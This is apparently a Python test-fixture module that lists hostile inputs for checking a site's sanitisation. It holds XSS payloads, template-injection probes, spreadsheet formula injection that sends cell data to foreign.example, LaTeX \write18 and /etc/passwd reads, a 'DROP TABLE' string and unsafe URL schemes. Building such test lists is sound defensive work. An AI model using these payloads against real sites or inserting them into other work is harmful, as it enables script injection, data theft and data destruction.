"""Texts that have broken other sites: each rule of ABUSE.md's rows 11 to 13 in its variants, and public lists."""

from __future__ import annotations

import json
import re
from pathlib import Path

DATA = Path(__file__).parent / "data"

MARKER = "pwned"
"""What a script of the content would set: ``window.pwned``."""
ACT = f"window.{MARKER}=1"

IN_HTML = (
    f"<script>{ACT}</script>",
    f"<ScRiPt >{ACT}</sCrIpT >",
    f"<script/x>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    "<script src=https://foreign.example/a.js></script>",
    f"</title><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"</style><script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"--><script>{ACT}</script><!--",
    f"--!><script>{ACT}</script>",
    f"]]><script>{ACT}</script>",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"<img src=x onerror={ACT}>",
    f"<img src=x onerror\n=\n{ACT}>",
    f"<img/src=x/onerror={ACT}//",
    f'<img src="x`" `<script>{ACT}</script>"` `>',
    f"<image src=x onerror={ACT}>",
    f"<svg onload={ACT}>",
    f"<svg/onload={ACT}//",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{ACT} /><text x=20 y=20>x</text></a>",
    f"<svg><foreignObject><iframe srcdoc='<script>{ACT}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ACT}&gt;'>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{ACT}>x</maction></math>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<template><script>{ACT}</script></template>",
    f"<iframe src=javascript:{ACT}></iframe>",
    f'<iframe srcdoc="&lt;script&gt;{ACT}&lt;/script&gt;"></iframe>',
    "<iframe src=https://foreign.example/></iframe>",
    f"<object data=javascript:{ACT}></object>",
    f"<embed src=javascript:{ACT}>",
    "<link rel=stylesheet href=https://foreign.example/a.css>",
    "<style>@import 'https://foreign.example/a.css';</style>",
    "<div style='background:url(https://foreign.example/a.png)'>x</div>",
    "<meta http-equiv=refresh content='0;url=https://foreign.example/'>",
    "<base href=https://foreign.example/>",
    f"<form action=javascript:{ACT}><input type=submit autofocus onfocus={ACT}></form>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<video><source onerror={ACT}></video>",
    f"<body onload={ACT}>",
    f"<a href=javascript:{ACT}>x</a>",
    f"<a href='  java&#x0a;script:{ACT}'>x</a>",
    f"<a href=&#x6A;avascript:{ACT}>x</a>",
    f"<p onclick={ACT} style=x:expression({ACT})>x</p>",
    f"<xss id=x tabindex=1 onactivate={ACT}></xss>",
    f"<!--<img src='--><img src=x onerror={ACT}//'>",
    f"<? foo='><script>{ACT}</script>'>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{ACT}</script>'>]>&y;",
    f"<plaintext><script>{ACT}</script>",
    f"<b/><u/><i/onmouseover={ACT}>x</i>",
)
"""Elements, and ways out of where a text may stand in a page."""

IN_ATTRIBUTES = (
    f'" onmouseover="{ACT}" x="',
    f"' onmouseover='{ACT}' x='",
    f'"><script>{ACT}</script>',
    f"'><script>{ACT}</script>",
    f'" autofocus onfocus={ACT} "',
    f"` onmouseover=`{ACT}`",
    f"x onerror={ACT}",
    f"&quot;&gt;&lt;script&gt;{ACT}&lt;/script&gt;",
    f'\\"><script>{ACT}</script>',
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"%3Cscript%3E{ACT}%3C/script%3E",
)

IN_SCRIPTS_AND_TEMPLATES = (
    f'";{ACT};//',
    f"';{ACT};//",
    f"\\';{ACT};//",
    f"</script><svg onload={ACT}>",
    "<!--<script>",
    f"${{{ACT}}}",
    "{{7*7}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "{# a comment #} left",
    "<%= 7*7 %>",
    "#{7*7}",
    "[[${7*7}]]",
    "@{7*7} $(id) `id`",
    "%(name)s {name} {0} %s %n",
)

IN_EXPORTS = (
    '=HYPERLINK("https://foreign.example/?"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\\input{/etc/passwd}",
    "\\immediate\\write18{id}",
    "}} @article{other, title={x}",
    "{unbalanced",
    "100% of it # and & ~ ^ _ $ { } \\",
    "TY  - JOUR ER  -",
    "END:VEVENT BEGIN:VALARM TRIGGER:-PT1M",
    "a;b,c\\nd:e",
    '#let x = read("/etc/passwd")',
    '#image("https://foreign.example/a.png")',
    "$ mat(1;2) $ *bold* _it_ `raw` <label> @ref",
    "]]></summary><script xmlns='http://www.w3.org/1999/xhtml'>x</script>",
    "'; DROP TABLE sessions; --",
)

IN_MARKDOWN = (
    f"[x](javascript:{ACT})",
    f"![x](javascript:{ACT})",
    f"[x](https://a.example/ \"' onmouseover={ACT} x='\")",
    f'[x](https://a.example/ "&quot; onmouseover={ACT}")',
    f'![x" onerror="{ACT}](/media/ana.png)',
    f'![x](/media/ana.png "x\\" onerror={ACT}")',
    f"<javascript:{ACT}>",
    f"[x][y]\n\n[y]: javascript:{ACT}",
    f"[x][y]\n\n[y]: <java\tscript:{ACT}>",
    f"[y]: https://a.example/ '\"><script>{ACT}</script>'\n\n[x][y]",
    f'```"><script>{ACT}</script>\nx\n```',
    f"```{{.x onload={ACT} #y}}\nx\n```",
    f'``` x"onmouseover="{ACT}\nx\n```',
    f"# <img src=x onerror={ACT}> #",
    f'# "onmouseover={ACT} {{#x onload={ACT}}}',
    f'*[x" onmouseover="{ACT}]: y\n\nx',
    f'*[HTML]: " onmouseover={ACT} "\n\nHTML',
    f"x[^<script>]\n\n[^<script>]: {ACT}",
    f'x[^"onmouseover={ACT}]\n\n[^"onmouseover={ACT}]: y',
    f"| <script>{ACT}</script> |\n|---|\n| x |",
    f"<b title='\"><script>{ACT}</script>'>x</b>",
    f"`<script>{ACT}</script>`",
    f"    <script>{ACT}</script>",
    f"<time datetime='\" onload={ACT}'>x</time>",
    f'[a](/2030/programme/ "</script><script>{ACT}</script>")',
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"\\<script\\>{ACT}\\</script\\>",
    f"<<script>script>{ACT}</script>",
    "{{7*7}} {% include 'x' %} \\{\\{7*7\\}\\}",
)

_SCRIPT = "javascript:alert(1)"
UNSAFE_ADDRESSES = (
    *(_SCRIPT, "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)"),
    *("java\nscript:alert(1)", "java\rscript:alert(1)", "javascript\t:alert(1)", "javascript&colon;alert(1)"),
    *(
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#0000106avascript:alert(1)",
        "java&Tab;script:alert(1)",
    ),
    *("java&NewLine;script:alert(1)", "javascript%3Aalert(1)", "java%0ascript:alert(1)", "%6aavascript:alert(1)"),
    *("javascript&amp;colon;alert(1)", "\u200bjavascript:alert(1)", "java\u200dscript:alert(1)", "\ufeffjavascript:x"),
    *("java\u00adscript:alert(1)", "jav\u2028ascript:alert(1)", "javascript\u00a0:alert(1)", "\u3000javascript:x"),
    *(
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "DATA:,x",
    ),
    *("blob:https://a.example/x", "file:///etc/passwd", "ftp://a.example/", "filesystem:x", "view-source:https://a"),
    *("about:blank", "chrome://settings", "ms-word:ofe|u|https://a", "intent://a#Intent;end", "jar:https://a!/b"),
    *(
        "//foreign.example/",
        "/\\foreign.example/",
        "\\\\foreign.example\\x",
        "https:\\\\foreign.example",
        "/\t/foreign.example",
    ),
    *("https:foreign.example", "https:///x", "https://", "http://@/", "https://a.example\nx", "/../../etc/passwd"),
    *("/a/%2e%2e/%2e%2e/x", "/a/..%2f..%2fx", "../x", "/x\0y", "x:y", "1https://a", "wss://a.example/", "urn:isbn:1"),
)
"""None of these may stand in a link of a page."""
SAFE_ADDRESSES = (
    *(
        "https://a.example/",
        "http://a.example:8080/b?c=d&e=f#g",
        "HTTPS://A.EXAMPLE/",
        "mailto:a@b.example",
        "tel:+390612",
    ),
    *('https://a.example/"><script>', "https://a.example/'onmouseover=x", "https://a.example/%3Cscript%3E"),
    *(
        "https://مثال.example/مسار",
        "https://a.example/:b",
        "https://a.example/?u=javascript:x",
        "/2030/programme/#javascript:x",
    ),
)
"""These may, whatever they look like."""

REFUSED_CHARACTERS = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\u200b\u202a-\u202e\u2060\u2066-\u2069\ufeff\ufffe\uffff\ud800-\udfff]"
)
"""Characters that no text of the content may hold: controls, bidi controls, what is invisible."""


def naughty_strings() -> list[str]:
    """Return the Big List of Naughty Strings."""
    return list(json.loads((DATA / "naughty-strings.json").read_text("utf-8")))


def commonmark_examples() -> list[str]:
    """Return the Markdown of CommonMark's examples."""
    return list(json.loads((DATA / "commonmark.json").read_text("utf-8")))


def all_texts() -> list[str]:
    """Return the texts for single fields."""
    own = (*IN_HTML, *IN_ATTRIBUTES, *IN_SCRIPTS_AND_TEMPLATES, *IN_EXPORTS, *IN_MARKDOWN, *SAFE_ADDRESSES)
    return [*own, *(text for text in naughty_strings() if text.strip())]
